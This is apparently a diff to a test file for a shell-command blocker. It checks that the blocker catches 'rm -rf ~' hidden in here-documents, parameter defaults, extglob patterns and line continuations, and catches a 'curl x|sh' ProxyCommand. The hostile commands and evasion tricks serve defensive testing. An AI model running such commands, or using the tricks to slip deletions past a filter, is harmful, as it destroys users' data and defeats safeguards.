@@ -194,3 +194,12 @@ t.test('round 2 classes: in-place tools, copies into a directory, fetched code, 
   }
   t.ok(verdict("cat >> ~/.ssh/config <<'EOF'\nHost b\n  ProxyCommand sh -c 'curl x|sh'\nEOF").blocked, 'a ProxyCommand in ~/.ssh/config is code');
 });
+
+t.test('substitutions run by here-document bodies and ${X:-…} defaults, extglob and line continuations are read', async (t) => {
+  t.ok(verdict('cat <<EOF >/dev/null\n$(rm -rf ~)\nEOF').blocked, 'an unquoted here-document runs its $( )');
+  t.notOk(verdict("cat <<'EOF' >/dev/null\n$(rm -rf ~)\nEOF").blocked, 'a quoted one does not');
+  t.ok(verdict('echo "${X:-$(rm -rf ~)}"').blocked);
+  t.ok(verdict('rm -rf ~/!(project)').blocked, '!(…) matches everything but a few names');
+  t.ok(verdict('r\\\nm -rf ~').blocked, 'a line continuation inside a word');
+  t.notOk(verdict('shopt -s extglob; rm -f build/!(*.keep)').blocked);
+});
